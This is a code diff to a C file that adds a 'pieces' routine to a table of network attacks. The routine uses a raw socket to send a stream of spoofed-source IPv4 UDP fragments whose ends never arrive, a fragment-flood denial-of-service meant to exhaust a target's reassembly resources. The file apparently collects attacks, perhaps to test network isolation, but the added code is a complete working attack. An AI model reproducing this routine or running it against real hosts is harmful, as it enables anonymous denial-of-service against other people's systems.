@@ -287,16 +287,37 @@ static void ports(char **argv)
 	won("%ld sent", sent);
 }
 
+/* pieces SOURCE DESTINATION COUNT: the beginnings of so many packets, whose ends never come. */
+static void pieces(char **argv)
+{
+	static struct {
+		struct iphdr ip;
+		char text[1400];
+	} p = {.ip = {.version = 4, .ihl = 5, .ttl = 64}};
+	struct sockaddr_in to = {.sin_family = AF_INET};
+	long count = number(argv[2]), sent = 0;
+	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	if (s < 0)
+		lost("raw socket: %s", strerror(errno));
+	if (inet_pton(AF_INET, argv[0], &p.ip.saddr) != 1 ||
+	    inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
+		broken("addresses");
+	p.ip.daddr = to.sin_addr.s_addr;
+	p.ip.tot_len = htons(sizeof(p));
+	p.ip.protocol = IPPROTO_UDP;
+	p.ip.frag_off = htons(0x2000); /* more are to come */
+	for (long i = 0; i < count; i++) {
+		p.ip.id = htons((uint16_t)(i + 1));
+		sent += sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) > 0;
+	}
+	if (!sent)
+		broken("sendto");
+	won("%ld sent", sent);
+}
+
 const struct attack network_attacks[] = {
-    {"spoof", 3, spoof},
-    {"arp", 1, arp},
-    {"neighbour", 2, neighbour},
-    {"router", 1, router},
-    {"abstract", 1, abstract},
-    {"key", 1, key},
-    {"session", 1, session},
-    {"addkey", 1, addkey},
-    {"flows", 2, flows},
-    {"ports", 3, ports},
-    {0},
+    {"spoof", 3, spoof},     {"arp", 1, arp},           {"neighbour", 2, neighbour},
+    {"router", 1, router},   {"abstract", 1, abstract}, {"key", 1, key},
+    {"session", 1, session}, {"addkey", 1, addkey},     {"flows", 2, flows},
+    {"ports", 3, ports},     {"pieces", 3, pieces},     {0},
 };
